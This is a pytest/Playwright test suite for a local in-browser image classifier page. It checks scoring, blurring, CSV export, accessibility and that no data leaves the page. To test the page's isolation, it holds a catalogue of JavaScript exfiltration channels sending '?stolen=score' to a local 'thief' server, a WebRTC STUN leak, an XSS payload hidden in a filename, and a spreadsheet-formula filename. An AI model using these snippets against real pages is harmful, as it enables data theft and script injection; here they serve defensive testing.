"""The page as a person uses it: true scores, everything covered, names that are only names, and nothing that leaves."""

import csv
import io
import shutil
import socket
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
import torch
from made_page import CLASSES, Site, served, val_predictions
from PIL import Image

from bad_images import write_bad_corpus
from browser import Visit
from figleaf.data.decode import DecodeError, decode, resize
from figleaf.data.scenes import render
from figleaf.explain.layers import activations

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CLOSE = 5e-3  # of a score: float16 weights, and another decoder of JPEG
NOT_OF_BROWSERS = {".tif", ".jp2"}
NO_FILES = {
    *("missing", "folder", "broken link", "link to itself", "named pipe", "no permission"),
    "name that is no UTF-8",  # which the browser's driver cannot be told
}
PIXELS = """canvas => {
  const { width, height } = canvas;
  return { width, height, data: [...canvas.getContext("2d").getImageData(0, 0, width, height).data] };
}"""
# Every way out that a script has, tried in the page; what did not fail at once has half a second to arrive.
PLANTED = """async (target) => {
  const url = (name) => `${target}/${name}?stolen=score`;
  const refused = (promise) => promise.then(() => "arrived", () => "refused");
  const element = (tag, properties) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), properties);
    made.onload = () => resolve("arrived");
    made.onerror = () => resolve("refused");
    document.body.append(made);
    setTimeout(() => resolve("refused"), 500); // the server's log tells whether this is true
  });
  const styled = (css) => {
    document.body.style.background = css;
    return new Promise((resolve) => setTimeout(() => resolve("refused"), 300));
  };
  const event = (make) => new Promise((resolve) => {
    try {
      const made = make();
      made.onopen = made.onload = made.onmessage = () => resolve("arrived");
      made.onerror = () => resolve("refused");
    } catch {
      resolve("refused");
    }
  });
  const hole = Object.assign(document.createElement("iframe"), { name: "hole" });
  const form = Object.assign(document.createElement("form"), { action: url("form"), method: "post", target: "hole" });
  document.body.append(hole, form);
  form.submit();
  return {
    fetch: await refused(fetch(url("fetch"), { method: "POST", body: "score", mode: "no-cors" })),
    keepalive: await refused(fetch(url("keepalive"), { keepalive: true, mode: "no-cors" })),
    xhr: await event(() => {
      const request = new XMLHttpRequest();
      request.open("POST", url("xhr"));
      request.send("score");
      return request;
    }),
    socket: await event(() => new WebSocket(target.replace(/^http/, "ws") + "/socket")),
    source: await event(() => new EventSource(url("source"))),
    worker: await event(() => new Worker(url("worker"))),
    module: await refused(import(url("module"))),
    beacon: (navigator.sendBeacon(url("beacon"), "score"), "refused"), // it says nothing; the server's log does
    font: await refused(new FontFace("stolen", `url(${url("font")})`).load()),
    image: await element("img", { src: url("image") }),
    script: await element("script", { src: url("script") }),
    sheet: await element("link", { rel: "stylesheet", href: url("sheet") }),
    prefetch: await element("link", { rel: "prefetch", href: url("prefetch") }),
    preload: await element("link", { rel: "preload", as: "image", href: url("preload") }),
    icon: await element("link", { rel: "icon", href: url("icon") }),
    frame: await element("iframe", { src: url("frame") }).then(() => "refused"), // in place of it an error is loaded
    object: await element("object", { data: url("object") }),
    embed: await element("embed", { src: url("embed") }),
    film: await element("video", { src: url("film") }),
    sound: await element("audio", { src: url("sound") }),
    css: await styled(`url(${url("css")})`),
    ping: (Object.assign(document.createElement("a"), { href: "#here", ping: url("ping") }).click(), "refused"),
    form: "refused",
  };
}"""
HOSTILE = '<img src=x onerror="document.title=`pwned`">&amp;\u202egnp.png'


@pytest.fixture
def scene(tmp_path: Path) -> Path:
    """A drawn picture of an odd size."""
    Image.fromarray(render(4, 7, 101).rgb_u8[12:89]).save(tmp_path / "scene.png")
    return tmp_path / "scene.png"


def opened(visit: Visit, address: str) -> None:
    visit.page.goto(address)
    visit.page.wait_for_selector("html[data-ready]", state="attached")


def looked_at(visit: Visit, picture: Path) -> None:
    visit.page.set_input_files("#files", str(picture))
    visit.page.wait_for_selector("#verdict", state="visible")


def listed(visit: Visit, pictures: list[Path]) -> dict[str, dict[str, str]]:
    """Rows of the CSV by file name."""
    visit.page.set_input_files("#files", [str(picture) for picture in pictures])
    visit.page.wait_for_selector(f"#list-words:text-matches('^{len(pictures)} files')")
    return {row["file"]: row for row in csv.DictReader(io.StringIO(visit.page.locator("#csv-text").input_value()))}


def test_the_page_scores_what_the_checkpoint_scores_and_says_why_it_cannot(
    visit: Visit, site: Site, tmp_path: Path
) -> None:
    opened(visit, site.address)
    corpus = {one.path.name: one.path for one in write_bad_corpus(tmp_path / "bad") if one.kind not in NO_FILES}
    for side in (1, 33, 101):  # no multiples of the input's size
        noise = np.random.default_rng(side).integers(0, 256, (side + 6, side, 3), dtype=np.uint8)
        Image.fromarray(noise).save(tmp_path / f"{side}.png")
        Image.fromarray(render(4, side, 128).rgb_u8[:, :side]).save(tmp_path / f"{side}.jpg", quality=80)
        corpus |= {name: tmp_path / name for name in (f"{side}.png", f"{side}.jpg")}
    rows = listed(visit, list(corpus.values()))
    assert len(rows) == len(corpus) > 50
    scores = []
    for name, row in rows.items():
        if (path := corpus.get(name)) is None:
            assert name.startswith("line"), "only a carriage return is another one in a text field"
        elif path.suffix in NOT_OF_BROWSERS:
            assert "not decoded by browsers" in row["error"]
            assert row["score"] == ""
        elif name == "text_bomb.png":
            assert row["score"], "a browser does not read the text beside a picture"
        else:
            try:
                scores.append(site.score(path))
            except DecodeError:
                assert row["error"]
                assert row["score"] == ""
            else:
                assert row["error"] == ""
                assert float(row["score"]) == pytest.approx(scores[-1], abs=CLOSE), name
                assert row["flagged"] == str(float(row["score"]) >= 0.625).lower()
    assert len(scores) > 30
    assert max(scores) - min(scores) > 0.3, "a network that always says the same shows nothing"
    assert visit.errors == []


@pytest.mark.parametrize("form", ["folder", "single"])
def test_a_picture_is_scored_mapped_and_seen_through_layers(form: str, visit: Visit, site: Site, scene: Path) -> None:
    page = visit.page
    opened(visit, site.address if form == "folder" else site.single)
    looked_at(visit, scene)
    score = site.score(scene)
    assert page.locator("#score").inner_text() == f"{score:.2f}"
    assert page.locator("#verdict").get_attribute("data-flagged") == str(score >= 0.625).lower()
    assert page.locator("#size").inner_text() == "101 × 77"
    bars = page.locator("#classes > div").all_inner_texts()
    assert [line.split("\n")[0] for line in bars] == list(CLASSES)

    page.get_by_role("button", name="Show the map").click()
    page.get_by_label("Map of").select_option(CLASSES[1])
    rgb_u8 = resize(decode(scene), 64)
    seen = activations(site.scorer.net, torch.from_numpy(rgb_u8).permute(2, 0, 1)[None], ["block5_conv3"])
    last = seen["block5_conv3"][0]
    weights = site.scorer.net.layers["predictions"].get_parameter("weight")[1].detach()
    ours = (weights[:, None, None] * last).sum(0).numpy()
    shown = page.locator("#map").evaluate(PIXELS)
    alpha = np.array(shown["data"]).reshape(shown["height"], shown["width"], 4)[..., 3] / 255
    cells = 0.25 + 0.75 * np.clip(ours, 0, None) / ours.max()
    height, width = ours.shape
    middles = alpha[np.ix_(middle(shown["height"], height), middle(shown["width"], width))]
    np.testing.assert_allclose(middles, cells, atol=0.05)
    page.locator("#opacity").fill("20")
    assert page.locator("#map").evaluate("map => map.style.opacity") == "0.2"

    page.get_by_role("tablist", name="Layers", exact=True).get_by_role("tab", name="block5_conv3").click()
    page.wait_for_selector("#inside-words:text-matches('block5_conv3')")
    assert page.locator("#channels figcaption").first.inner_text().split(":")[0] == str(int(last.mean((1, 2)).argmax()))
    assert page.locator("#channels canvas").count() == 24
    page.get_by_role("button", name="Show all 64").click()
    assert page.locator("#channels canvas").count() == 64
    assert visit.errors == []


@pytest.mark.parametrize("form", ["folder", "single"])
def test_filters_of_the_gallery_are_climbed_in_the_page(form: str, visit: Visit, site: Site) -> None:
    page = visit.page
    opened(visit, site.address if form == "folder" else site.single)
    page.get_by_role("tablist", name="Layers of the gallery").get_by_role("tab", name="block3_conv2").click()
    assert page.locator("#filters button").count() == 7
    page.locator("#filters button").nth(3).click()
    assert page.get_by_label("Filter", exact=True).input_value() == "3"
    page.get_by_role("button", name="Maximise").click()
    words = page.locator("#wish-words:text-matches('^Filter 3 of block3_conv2: response')").inner_text()
    first, last = (float(word) for word in words.split("response ")[1].split(",")[0].split(" to "))
    assert last > first + 0.5
    shown = page.locator("#wish").evaluate(PIXELS)
    found = np.array(shown["data"]).reshape(64, 64, 4)
    assert found[..., :3].std() > 20, "a picture, not one colour"
    assert visit.errors == []


def test_everything_is_covered_until_asked(visit: Visit, site: Site, scene: Path) -> None:
    page = visit.page
    opened(visit, site.address)
    looked_at(visit, scene)
    pictures = page.locator("canvas.hideable")
    page.wait_for_selector("#channels canvas")

    def blurs() -> set[str]:
        page.wait_for_timeout(400)  # covering is drawn out over 0.3 s
        return set(pictures.evaluate_all("all => all.map(one => getComputedStyle(one).filter.split('(')[0])"))

    assert pictures.count() > 5
    assert blurs() == {"blur"}
    page.get_by_role("button", name="Uncover").click()
    assert blurs() == {"none"}
    page.keyboard.press("Escape")
    assert blurs() == {"blur"}
    page.get_by_role("button", name="Uncover").click()
    looked_at(visit, scene)
    page.wait_for_selector("body.covered")
    listed(visit, [scene, scene])
    thumbs = page.locator("#tiles canvas")
    assert set(thumbs.evaluate_all("all => all.map(one => getComputedStyle(one).filter.split('(')[0])")) == {"blur"}


def test_names_are_text_and_nothing_else(visit: Visit, site: Site, scene: Path, tmp_path: Path) -> None:
    page = visit.page
    opened(visit, site.address)
    title = page.title()
    hostile = tmp_path / HOSTILE
    hostile.write_bytes(scene.read_bytes())
    formula = tmp_path / "=HYPERLINK(A1).png"
    formula.write_bytes(b"no picture")
    looked_at(visit, hostile)
    assert page.locator("#name").inner_text() == HOSTILE
    assert "<i>test" in page.locator("#about").inner_text()
    rows = listed(visit, [hostile, formula])
    assert set(rows) == {HOSTILE, "'=HYPERLINK(A1).png"}  # a spreadsheet would take it for a formula
    assert "not a picture" in page.locator("#tiles .why").inner_text()
    assert page.locator("img, b b, b i, b script, #measured i").count() == 0
    assert page.title() == title
    assert visit.errors == []


def test_the_scores_can_be_taken_along(visit: Visit, site: Site, scene: Path) -> None:
    page = visit.page
    opened(visit, site.address)
    shown = listed(visit, [scene, scene])
    with page.expect_download() as download:
        page.get_by_role("button", name="Download the scores").click()
    kept = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
    assert download.value.suggested_filename == "scores.csv"
    assert len(kept) == 2
    assert kept[0] == shown[scene.name]
    page.get_by_label("Threshold").fill("0")
    assert set(page.locator("#tiles .flag").all_inner_texts()) == {"flagged"}
    page.locator("#tiles button").first.click()
    page.wait_for_selector("#verdict[data-flagged=true]", state="visible")


def test_a_threshold_says_what_it_does_on_the_validation_pictures(visit: Visit, site: Site) -> None:
    page = visit.page
    opened(visit, site.address)
    val = val_predictions(site.scorer)
    for threshold in (0.625, 0.0, 1.0):
        page.get_by_label("Threshold").fill(str(threshold))
        flagged = val.scores >= threshold
        words = page.locator("#point").inner_text()
        assert f"({(flagged & val.is_unsafe).sum()} of {val.is_unsafe.sum()})" in words
        assert f"({(flagged & ~val.is_unsafe).sum()} of {(~val.is_unsafe).sum()})" in words
    assert "proxy" in page.locator("#measured .caution").inner_text()
    assert "0.800 [0.750, 0.850]" in page.locator("#measured table").first.inner_text().replace("\n", " ")


def test_a_broken_picture_takes_nothing_with_it(visit: Visit, site: Site, scene: Path, tmp_path: Path) -> None:
    page = visit.page
    opened(visit, site.address)
    broken = tmp_path / "broken.jpg"
    broken.write_bytes(b"\xff\xd8\xff" + bytes(100))
    page.set_input_files("#files", str(broken))
    assert "broken.jpg" in page.get_by_role("alert").inner_text()
    looked_at(visit, scene)
    assert page.get_by_role("alert").count() == 0
    assert visit.errors == []


@pytest.mark.parametrize("form", ["folder", "single"])
def test_the_sealed_page_can_ask_nobody(form: str, visit: Visit, site: Site, scene: Path, tmp_path: Path) -> None:
    page = visit.page
    opened(visit, site.address if form == "folder" else site.single)
    looked_at(visit, scene)
    (tmp_path / "index.html").write_text("<title>thief</title>")
    with served(tmp_path) as (thief, stolen):
        before = len(site.requests)
        for target in (thief, site.address.rstrip("/")):
            outcome = page.evaluate(PLANTED, target)
            assert {name: said for name, said in outcome.items() if said != "refused"} == {}, target
        page.wait_for_timeout(1500)
        assert stolen == []
        assert site.requests[before:] == []
        assert page.evaluate("document.title") != "thief"


@pytest.mark.parametrize("way", ["drop", "paste"])
def test_pictures_are_dropped_and_pasted(way: str, visit: Visit, site: Site, scene: Path) -> None:
    opened(visit, site.address)
    visit.page.evaluate(
        """([way, bytes]) => {
          const data = new DataTransfer();
          data.items.add(new File([new Uint8Array(bytes)], "given.png"));
          const options = { dataTransfer: data, clipboardData: data, bubbles: true, cancelable: true };
          const event = way === "drop" ? new DragEvent("drop", options) : new ClipboardEvent("paste", options);
          document.body.dispatchEvent(event);
        }""",
        [way, list(scene.read_bytes())],
    )
    visit.page.wait_for_selector("#verdict", state="visible")
    assert visit.page.locator("#name").inner_text() == "given.png"
    assert visit.page.locator("#score").inner_text() == f"{site.score(scene):.2f}"


def test_a_page_that_cannot_open_says_why(visit: Visit, site: Site, tmp_path: Path) -> None:
    page = visit.page
    page.goto((site.built.out / "index.html").as_uri())  # modules are not loaded from a disk
    assert "http.server" in page.locator("#about").inner_text()
    assert page.get_by_role("button", name="Choose pictures").is_disabled()
    shutil.copytree(site.built.out, tmp_path / "page")
    (tmp_path / "page" / "model" / "group1-shard1of1.bin").write_bytes(bytes(10))
    with served(tmp_path / "page") as (address, _):
        page.goto(address)
        assert "10 bytes of weights, and model.json tells of" in page.get_by_role("alert").inner_text()
        assert page.locator("#seal-text").inner_text() == "Not opened"
        (tmp_path / "page" / "model" / "group1-shard1of1.bin").unlink()
        page.goto(address)
        assert "model/group1-shard1of1.bin: 404" in page.get_by_role("alert").inner_text()


def test_the_planted_ways_out_lead_out_of_a_page_without_a_policy(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<title>open</title>")
    with served(tmp_path) as (thief, stolen):
        visit.page.goto(thief)
        visit.page.evaluate(PLANTED, thief)
        visit.page.wait_for_timeout(500)
        arrived = {line.split()[1].split("?")[0].strip("/") for line in stolen if "stolen" in line or "socket" in line}
    assert arrived >= {
        *("fetch", "keepalive", "xhr", "socket", "source", "worker", "module", "beacon", "font", "image", "script"),
        *(
            "sheet",
            "prefetch",
            "preload",
            "frame",
            "object",
            "embed",
            "film",
            "sound",
            "css",
            "ping",
            "form",
        ),
    }


def test_what_the_page_says_it_cannot_refuse_is_not_refused(visit: Visit, site: Site, tmp_path: Path) -> None:
    page = visit.page
    (tmp_path / "index.html").write_text("<title>thief</title>")
    opened(visit, site.address)
    listed_doors = page.locator("#open-doors").inner_text()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun, served(tmp_path) as (thief, stolen):
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(10)
        page.evaluate(
            """async (port) => {
              const link = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
              link.createDataChannel("stolen");
              await link.setLocalDescription();
            }""",
            stun.getsockname()[1],
        )
        assert stun.recv(2048), "a browser whose policy stops this: the page need not name it any more"
        assert "WebRTC" in listed_doors
        page.evaluate("address => { location.href = address; }", f"{thief}/?stolen=score")
        page.wait_for_url(f"{thief}/**")
        assert any("stolen=score" in line for line in stolen)
        assert "leaving the page" in listed_doors


def test_only_its_own_files_are_asked_for(visit: Visit, site: Site, scene: Path) -> None:
    before = len(site.requests)
    opened(visit, site.address)
    looked_at(visit, scene)
    asked = {line.split()[1].split("/", 2)[2] for line in site.requests[before:]}
    assert asked <= {"", *site.built.files}
    assert {"manifest.json", "model/model.json", "engine/tfjs-backend-wasm-simd.wasm"} <= asked
    assert visit.beyond == []
    assert page_storage(visit) == {"cookies": "", "local": 0, "session": 0, "databases": 0, "caches": 0, "workers": 0}


def test_no_width_scrolls_sideways(visit: Visit, site: Site, scene: Path) -> None:
    page = visit.page
    opened(visit, site.address)
    listed(visit, [scene, scene])
    looked_at(visit, scene)
    page.get_by_role("button", name="Show the map").click()
    page.locator("#measured summary").click()
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        for width in (1280, 768, 530, 390, 320):
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_keys_and_a_screen_reader_are_enough(visit: Visit, site: Site, scene: Path) -> None:
    page = visit.page
    page.on("filechooser", lambda chooser: chooser.set_files(str(scene)))
    opened(visit, site.address)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Go to the picture"
    page.keyboard.press("Enter")
    page.wait_for_selector("#look:focus")
    page.keyboard.press("Tab")
    page.wait_for_selector("#pick:focus")
    page.keyboard.press("Enter")
    page.wait_for_selector("#verdict", state="visible")
    assert page.get_by_role("status").first.inner_text().startswith(f"{scene.name}: score {site.score(scene):.2f}, ")
    tabs = page.get_by_role("tablist", name="Layers", exact=True)
    tabs.get_by_role("tab", selected=True).focus()
    page.keyboard.press("End")
    assert tabs.get_by_role("tab", selected=True).inner_text() == "block5_conv3"
    page.keyboard.press("Home")
    assert tabs.get_by_role("tab", selected=True).inner_text() == "block1_conv1"
    slider = page.get_by_role("slider", name="Threshold")
    slider.focus()
    page.keyboard.press("ArrowRight")
    assert slider.get_attribute("aria-valuetext").startswith("0.63: flags ")
    unnamed = page.locator("button, select, input:not([hidden]), canvas[role=img]").evaluate_all(
        "all => all.filter(one => !(one.ariaLabel || one.labels?.length || one.textContent.trim())).map(one => one.id)"
    )
    assert unnamed == []


def test_the_single_file_works_in_the_pane_that_mlflow_shows_artifacts_in(
    visit: Visit, site: Site, scene: Path
) -> None:
    page = visit.page
    host = site.built.out.parent / "pane.html"
    host.write_text(
        "<iframe sandbox='allow-scripts' style='width: 530px; height: 900px'></iframe><script>"
        "fetch('si;te, one/single.html').then(answer => answer.blob()).then(blob => "
        "document.querySelector('iframe').src = URL.createObjectURL(new Blob([blob], {type: 'text/html'})))</script>"
    )
    page.goto(site.address.rsplit("/", 2)[0] + "/pane.html")
    pane = page.frame_locator("iframe")
    pane.locator("html[data-ready]").wait_for(state="attached")
    pane.locator("#files").set_input_files(str(scene))
    pane.locator("#verdict").wait_for()
    assert pane.locator("#score").inner_text() == f"{site.score(scene):.2f}"
    assert pane.locator("html").evaluate("html => html.scrollWidth") <= 530
    assert visit.errors == []


def test_the_camera_gives_a_picture_and_is_left_alone_afterwards(site: Site, chromium: "Browser") -> None:
    fake = ["--headless=new", "--no-sandbox", "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))))
    with chromium.browser_type.launch(executable_path=path, args=fake) as browser:
        page = browser.new_page()
        page.goto(site.address)
        page.get_by_role("button", name="Use the camera").click()
        page.get_by_role("button", name="Take the picture").click()
        page.wait_for_selector("#verdict", state="visible")
        assert page.locator("#name").inner_text() == "camera picture"
        assert page.locator("#video").evaluate("video => video.srcObject") is None


def test_without_a_camera_it_says_so(visit: Visit, site: Site) -> None:
    opened(visit, site.address)
    visit.page.get_by_role("button", name="Use the camera").click()
    assert "camera" in visit.page.get_by_role("alert").inner_text()


def middle(length: int, cells: int) -> list[int]:
    """The pixels in the middles of cells."""
    return [int((cell + 0.5) * length / cells) for cell in range(cells)]


def page_storage(visit: Visit) -> dict[str, object]:
    return visit.page.evaluate(
        "async () => ({ cookies: document.cookie, local: localStorage.length, session: sessionStorage.length, "
        "databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length, "
        "workers: (await navigator.serviceWorker.getRegistrations()).length })"
    )
